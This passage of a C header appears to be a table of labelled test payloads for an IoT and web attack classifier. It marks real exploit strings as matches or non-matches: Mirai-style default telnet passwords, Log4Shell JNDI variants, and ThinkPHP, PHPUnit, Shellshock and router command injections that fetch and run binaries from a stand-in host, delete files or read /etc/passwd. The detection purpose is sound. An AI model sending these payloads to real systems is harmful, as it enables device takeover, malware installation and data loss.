    "M-SEARCH * HTTP/1.1\r\nHOST: 255.255.255.255:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: urn:dial-multiscre"
    "en-org:service:dial:1\r\n\r\n")
PAYLOAD_ROW("iot-tbk-dvr", TCP, 80, true,
    "POST /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Brm%20arm7%3B HTTP/1.1\r\nHost: "
    "192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-tbk-dvr", TCP, 80, true,
    "GET /device.rsp?opt=user&cmd=list HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nCookie: uid=admin\r\n\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 23, true,
    "xc3511\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 23, true,
    "root\r\nxc3511\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 23, true,
    "root\r\000vizxv\r\000")
PAYLOAD_ROW("iot-telnet-login", TCP, 2323, true,
    "OxhlwSG8\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 2323, true,
    "tlJwpbo6\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 2323, true,
    "S2fGqNFs\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 2323, true,
    "hslwificam\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 2323, true,
    "GM8182\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 2323, true,
    "meinsm\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 23, true,
    "\377\375\001\377\375\003xc3511\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 23, false,
    "root\r\nadmin\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 23, false,
    "root toor xc3511\r\n")
PAYLOAD_ROW("iot-telnet-login", TCP, 80, false,
    "xc3511\r\n")
PAYLOAD_ROW("iot-telnet-shell", TCP, 23, true,
    "enable\r\nsystem\r\nshell\r\nsh\r\n")
PAYLOAD_ROW("iot-telnet-shell", TCP, 23, true,
    "enable\000shell\000sh\000")
PAYLOAD_ROW("iot-telnet-shell", TCP, 23, true,
    "system\r\n\r\nshell\r\n\r\n")
PAYLOAD_ROW("iot-telnet-shell", TCP, 23, false,
    "shell game\r\n")
PAYLOAD_ROW("iot-tenda-goform", TCP, 8080, true,
    "GET /goform/setUsbUnload/.js?deviceName=A;wget http://192.0.2.9/x HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r"
    "\n\r\n")
PAYLOAD_ROW("iot-tenda-goform", TCP, 80, true,
    "GET /goform/exeCommand?cmdinput=;wget HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-tenda-goform", TCP, 80, false,
    "GET /goform/setUsbLoad?deviceName=A HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-totolink", TCP, 80, true,
    "POST /cgi-bin/cstecgi.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n{\"topicurl\":\"setting/setWebWlan"
    "Idx\"}")
PAYLOAD_ROW("iot-tplink-ax21", TCP, 80, true,
    "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget`) HTTP/1.1\r\nHost: 192.0.2.1"
    "\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-tplink-ax21", TCP, 80, true,
    "POST /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\noperation=writ"
    "e&country=$(rm -rf *; cd /tmp)")
PAYLOAD_ROW("iot-tplink-ax21", TCP, 80, true,
    "GET /cgi-bin/luci/;stok=%2Flocale?form=country&operation=write&country=$(id) HTTP/1.1\r\nHost: 192.0.2.1\r\nAc"
    "cept: */*\r\n\r\n")
PAYLOAD_ROW("iot-tplink-cgi", TCP, 80, true,
    "POST /cgi?2 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nReferer: http://x/mainFrame.htm\r\n\r\n[TRACEROUTE_D"
    "IAG#0,0,0,0,0,0#0,0,0,0,0,0]0,8\r\nmaxHopCount=20")
PAYLOAD_ROW("iot-tplink-cgi", TCP, 80, false,
    "POST /cgi?2 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n[LAN_HOST_CFG#1,0,0,0,0,0#0,0,0,0,0,0]0,8\r\n")
PAYLOAD_ROW("iot-tplink-kasa", UDP, 9999, true,
    "\320\362\201\370\213\377\232\367\325\357\224\266\321\264\300\237\354\225\346\217\341\207\350\312\360\213\366"
    "\213\366")
PAYLOAD_ROW("iot-tr064-injection", TCP, 7547, true,
    "POST /UD/act?1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNT"
    "PServers\r\n\r\n")
PAYLOAD_ROW("iot-tr064-injection", TCP, 5555, true,
    "POST /UD/act?1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-tr064-injection", TCP, 7547, true,
    "POST /tr064dev.xml HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nSOAPACTION: \"urn:dslforum-org:service:Time:1"
    "#SetNTPServers\"\r\n\r\n")
PAYLOAD_ROW("iot-tvt-dvr", TCP, 4567, true,
    "POST /editBlackAndWhiteList HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nAuthorization: Basic YWRtaW46ezEyMjE"
    "zQkQxLTY5QzctNDg2Mi04NDNELTI2MDUwMEQxREE0MH0=\r\n\r\n")
PAYLOAD_ROW("iot-tvt-dvr", TCP, 4567, false,
    "POST /editBlackList HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nAuthorization: Basic ezEyMjEz\r\n\r\n")
PAYLOAD_ROW("iot-ubiquiti-discovery", UDP, 10001, true,
    "\001\000\000\000")
PAYLOAD_ROW("iot-ubiquiti-discovery", UDP, 10001, true,
    "\002\010\000\000")
PAYLOAD_ROW("iot-vacron", TCP, 80, true,
    "GET /board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+varcron HTTP/1.1"
    "\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-winbox-exploit", TCP, 8291, true,
    "h\001\000fM2\005\000\377\001/////./..//////./..//flash/rw/store/user.dat")
PAYLOAD_ROW("iot-ws-discovery", UDP, 3702, true,
    "<:/>")
PAYLOAD_ROW("iot-zte-gch", TCP, 80, true,
    "POST /web_shell_cmd.gch HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nIF_ACTION=apply&Cmd=wget")
PAYLOAD_ROW("iot-zyxel-nas", TCP, 80, true,
    "GET /adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bls%23&password=asdf HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: "
    "*/*\r\n\r\n")
PAYLOAD_ROW("iot-zyxel-nas", TCP, 80, true,
    "POST /cmd,/simZysh/register_main/setCookie HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-zyxel-nas", TCP, 80, false,
    "POST /cmd,/login HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-zyxel-p660", TCP, 8080, true,
    "POST /cgi-bin/ViewLog.asp HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nremote_submit_Flag=1&remote_syslog"
    "_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp")
PAYLOAD_ROW("iot-zyxel-ztp", TCP, 443, true,
    "POST /ztp/cgi-bin/handler HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n{\"command\":\"setWanPortSt\",\"pr"
    "oto\":\"dhcp\",\"port\":\"4\",\"vlan_tagged\":\"1\",\"vlanid\":\"5\",\"mtu\":\"; wget\",\"data\":\"hi\"}")
PAYLOAD_ROW("iot-zyxel-ztp", TCP, 443, false,
    "POST /ztp/cgi-bin/handle HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-zyxel-ztp", TCP, 443, false,
    "{\"command\":\"setWanPort\"}")
PAYLOAD_ROW("proxy-http", TCP, 8080, true,
    "CONNECT google.com:443 HTTP/1.1\r\n\r\n")
PAYLOAD_ROW("remote-vnc", TCP, 5900, true,
    "RFB 003.008\n")
PAYLOAD_ROW("voip-scanner", UDP, 5060, true,
    "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.9:5071;branch=z9hG4bK-1234;rport\r\nContent-Leng"
    "th: 0\r\nFrom: \"sipvicious\"<sip:100@192.0.2.2>; tag=643\r\nAccept: application/sdp\r\nUser-Agent: friendly-s"
    "canner\r\n\r\n")
PAYLOAD_ROW("web-apache-traversal", TCP, 80, true,
    "GET /cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-apache-traversal", TCP, 80, true,
    "POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-apache-traversal", TCP, 80, true,
    "GET /icons/.%%32%65/.%%32%65/etc/passwd HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nX-Api-Version: ${jndi:ldap://192.0.2.9:1389/Basic/Command/"
    "Base64/KA==}\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?x=${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.0.2.9/a} HTTP/1.1\r\nHost: 192.0.2.1"
    "\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?x=${j${lower:n}di:ldap://192.0.2.9/a} HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?x=$%7Bjndi:dns://a.b/c%7D HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//192.0.2.9/a} HTTP/1.1\r\nHos"
    "t: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?x=${JNDI:ldap://192.0.2.9/a} HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 8080, true,
    "GET /?x=${jnd${upper:i}:ldap://192.0.2.9/a} HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-log4shell", TCP, 80, true,
    "GET /?x=${jndi:ldap://192.0.2.9/a} HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nwget http://192.0.2.9/x.a"
    "rm7")
PAYLOAD_ROW("web-log4shell", TCP, 8080, false,
    "GET /?x=${HOME}${IFS}jndi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-phpunit", TCP, 80, true,
    "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n<?p"
    "hp system('/bin/busybox wget http://192.0.2.9/bins/x.mips'); ?>")
PAYLOAD_ROW("web-phpunit", TCP, 80, false,
    "POST /vendor/eval-stdout.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-scanner", TCP, 80, true,
    "GET / HTTP/1.1\r\nHost: 192.0.2.9\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n")
PAYLOAD_ROW("web-shellshock", TCP, 80, true,
    "GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nReferer: () { _; } >_[$($())] { /bin/busyb"
    "ox wget http://192.0.2.9/x.mips; }\r\n\r\n")
PAYLOAD_ROW("web-struts", TCP, 80, true,
    "GET /struts2-rest-showcase/orders.xhtml HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nContent-Type: %{(#nike='"
    "multipart/form-data')}\r\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, true,
    "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]"
    "=wget http://192.0.2.9/x.x86 -O /tmp/a; chmod 777 /tmp/a; /tmp/a HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r"
    "\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, true,
    "GET /?s=index/\\think\\Request/input&filter=phpinfo&data=1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, true,
    "GET /index.php?s=index/%5Cthink%5Ctemplate%5Cdriver%5Cfile/write&cacheFile=a.php&content=x HTTP/1.1\r\nHost: 1"
    "92.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, true,
    "POST /index.php?s=captcha HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nContent-Type: application/x-www-form-u"
    "rlencoded\r\n\r\n_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id")
PAYLOAD_ROW("web-thinkphp", TCP, 80, true,
    "GET /public/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo&vars[0]=100 HTTP/1.1\r\nHost: 192."
    "0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, false,
    "GET /index.php?s=index/think/app HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("web-thinkphp", TCP, 80, false,
    "_method=delete&id=1")
PAYLOAD_ROW("windows-rdp", TCP, 3389, true,
    "\003\000\000+&\340\000\000\000\000\000Cookie: mstshash=hello\r\n\001\000\010\000\003\000\000\000")
PAYLOAD_ROW("windows-rdp", TCP, 3390, true,
    "\003\000\000\023\016\340\000\000\000\000\000\001\000\010\000\013\000\000\000")
PAYLOAD_ROW("windows-rdp", TCP, 3389, true,
    "\003\000\000\013\006\340\000\000\000\000\000")
PAYLOAD_ROW("windows-rdp", TCP, 3389, true,
    "\003\000\000/*\340\000\000\000\000\000Cookie: mstshash=Administr\r\n\001\000\010\000\001\000\000\000")
PAYLOAD_ROW("windows-rdp", TCP, 3389, false,
    "\003\000\000\013\006\340\000\000\000\000\001")
PAYLOAD_ROW("windows-smb", TCP, 445, true,
    "\000\000\000\205\377SMBr\000\000\000\000\030S\310")
};
/* clang-format on */

#endif
